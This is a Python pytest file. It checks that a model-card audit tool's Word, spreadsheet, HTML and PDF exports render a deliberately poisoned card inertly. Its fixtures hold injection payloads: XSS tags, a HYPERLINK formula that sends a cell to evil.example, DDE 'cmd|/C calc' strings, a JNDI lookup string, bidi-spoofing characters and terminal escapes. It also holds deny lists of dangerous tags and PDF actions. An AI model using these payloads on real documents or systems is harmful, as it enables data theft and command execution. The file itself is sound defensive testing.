"""A card full of traps leaves every form whole and inert in both languages; office programs open
it."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
import zlib
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from docx import Document
from format_poison import poisoned
from hub_folder import HubFolder

import provenance
from provenance.dossier import LANGUAGES, Review, write
from provenance.dossier.content import compose
from provenance.render.html import page
from provenance.report import Report

BAD = "\u202e\u2066\u200b\u200d\ufeff\x1b\x07\x9b"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
TRAPS = (
    (
        "<script>alert(1)</script><img src=x onerror=alert(1)></style><iframe"
        " src=https://evil.example></iframe>"
    ),
    FORMULA,
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "turned\u202egnp.exe\u202c zero\u200bwidth \u2066isolate\u2069 joined\u200dup \ufeffmark",
    "\x1b[2J\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
    "[x](javascript:alert(1)) ![y](https://evil.example/pixel.png)",
    "{0} {artifact} %s ${jndi:ldap://evil.example}",
    "]]> &amp; &#x202e; <!-- --> <?php ?>",
)
LONG = "personal data such as names and e-mail addresses were removed " * 1_700
BODY = f"""# {TRAPS[0]}

## Personal and Sensitive Information

{LONG}

Personal data was removed by {"x" * 100_000}

{"".join(f"Personal data was filtered: {trap}{chr(10)}{chr(10)}" for trap in TRAPS)}

## License

{FORMULA} {TRAPS[4]}
"""


EVERYWHERE = f"{FORMULA} {' '.join(TRAPS)} {'x' * 100_000}"


@pytest.fixture(scope="module")
def card(tmp_path_factory: pytest.TempPathFactory) -> Report:
    """A model whose card and files are traps."""
    hub = HubFolder(tmp_path_factory.mktemp("hub"))
    files: dict[str, str | bytes] = {
        f"{FORMULA[:9]}x.bin": b"x",
        "<b>bold</b>.py": "import os",
        "\u202egnp.exe.bin": b"x",
    }
    front = (
        f"license: other\nlicense_name: '{FORMULA}'\nlicense_link: javascript:alert(1)\ndatasets:"
        " ['mallory/x']"
    )
    hub.model("mallory/cmd-calc", front, BODY, files=files)
    return provenance.audit(
        "mallory/cmd-calc", hub=str(hub.root), use={"activity": ["product"], "commercial": True}
    )


@pytest.fixture(scope="module", params=["in a card", "everywhere"])
def report(request: pytest.FixtureRequest, card: Report) -> Report:
    """The same, and the same with a trap for every string that a report can hold."""
    return card if request.param == "in a card" else poisoned(card, EVERYWHERE)


def text_of(archive: bytes) -> Iterator[tuple[str, str]]:
    """The parts of an office file, each of which has to be well-formed XML."""
    with zipfile.ZipFile(io.BytesIO(archive)) as parts:
        for name in parts.namelist():
            if name.endswith((".xml", ".rels")):
                yield name, "".join(ElementTree.fromstring(parts.read(name)).itertext())


@pytest.mark.parametrize("lang", LANGUAGES)
def test_word(report: Report, lang: str) -> None:
    payload = write(Review(report=report, lang=lang), "docx")
    assert Document(io.BytesIO(payload)).tables
    for _, text in text_of(payload):
        assert not set(BAD) & set(text)
    with zipfile.ZipFile(io.BytesIO(payload)) as parts:
        links = parts.read("word/_rels/document.xml.rels").decode()
        body = parts.read("word/document.xml").decode()
    outward = re.findall(r'Target="([^"]+)" TargetMode="External"', links)
    assert all(link.startswith("https://") and "evil" not in link for link in outward)
    # The one field is the table of contents, which takes nothing from anybody.
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)", body)
    assert instructions == [' TOC \\o "1-2" \\h \\z \\u ']
    assert "vbaProject" not in links


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_sheets(report: Report, form: str, lang: str) -> None:
    payload = write(Review(report=report, lang=lang), form)
    if form == "xlsx":
        for name, text in text_of(payload):
            assert not set(BAD) & set(text), name
        book = openpyxl.load_workbook(io.BytesIO(payload))
        assert book.active is not None and not book.defined_names
        lines = [list(row) for row in book.active.iter_rows()]
        assert {cell.data_type for row in lines for cell in row} <= {"s", "n", "inlineStr"}
        assert not any(cell.hyperlink for row in lines for cell in row)
        rows = [[str(cell.value or "") for cell in row] for row in lines]
    else:
        rows = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert len({len(row) for row in rows}) == 1
    assert not [
        cell for cell in cells if cell.startswith(("=", "+", "-", "@")) or set(BAD) & set(cell)
    ]
    assert max(map(len, cells)) <= 2_001


@pytest.mark.parametrize("lang", LANGUAGES)
def test_html(report: Report, lang: str) -> None:
    html = page(compose(Review(report=report, lang=lang))).decode()
    assert not set(BAD) & set(html)
    tags = _Tags()
    tags.feed(html)
    assert not {"script", "img", "iframe", "object", "form", "link", "base"} & tags.names
    assert not {name for name in tags.attributes if name.startswith("on")}
    assert all(
        link.startswith(("#", "https://")) and "evil" not in link.partition("#")[0]
        for link in tags.links
    )
    assert "alert(1)" in html


class _Tags(HTMLParser):
    """What a browser would take for an element, an attribute or an address."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [
            value or "" for name, value in attrs if name in ("href", "src", "action", "xlink:href")
        ]


@pytest.mark.parametrize("lang", LANGUAGES)
def test_pdf(card: Report, lang: str) -> None:
    pytest.importorskip("weasyprint", reason="needs the extra pdf and Pango", exc_type=ImportError)
    payload = write(Review(report=card, lang=lang), "pdf")
    streams = [_inflated(part) for part in re.findall(rb"stream\r?\n(.*?)endstream", payload, re.S)]
    whole = b"".join([payload, *streams])
    for action in (
        b"/JavaScript",
        b"/Launch",
        b"/OpenAction",
        b"/EmbeddedFile",
        b"/SubmitForm",
        b"/AA ",
    ):
        assert action not in whole
    assert all(
        link.startswith(b"https://") and b"evil" not in link
        for link in re.findall(rb"/URI \((.*?)\)", whole)
    )


def _inflated(stream: bytes) -> bytes:
    try:
        return zlib.decompressobj().decompress(stream)
    except zlib.error:
        return b""


@pytest.mark.parametrize("lang", LANGUAGES)
def test_office_opens_them(card: Report, lang: str, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if not office:
        pytest.skip("LibreOffice is not here (Debian: libreoffice-writer, libreoffice-calc)")
    run = [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to"]
    for form, into in (("docx", "pdf"), ("xlsx", "csv:Text - txt - csv (StarCalc):44,34,76")):
        (tmp_path / f"dossier.{form}").write_bytes(write(Review(report=card, lang=lang), form))
        command = [*run, into, "--outdir", str(tmp_path), str(tmp_path / f"dossier.{form}")]
        subprocess.run(command, check=True, capture_output=True)
    if not (tmp_path / "dossier.csv").exists():
        pytest.skip("LibreOffice has no Calc here (Debian: libreoffice-calc)")
    assert (tmp_path / "dossier.pdf").read_bytes().startswith(b"%PDF-")
    rows = list(csv.reader(io.StringIO((tmp_path / "dossier.csv").read_text("utf-8"))))
    assert len(rows) > 40
    assert not [cell for row in rows for cell in row if cell.startswith(("Err:", "#"))]
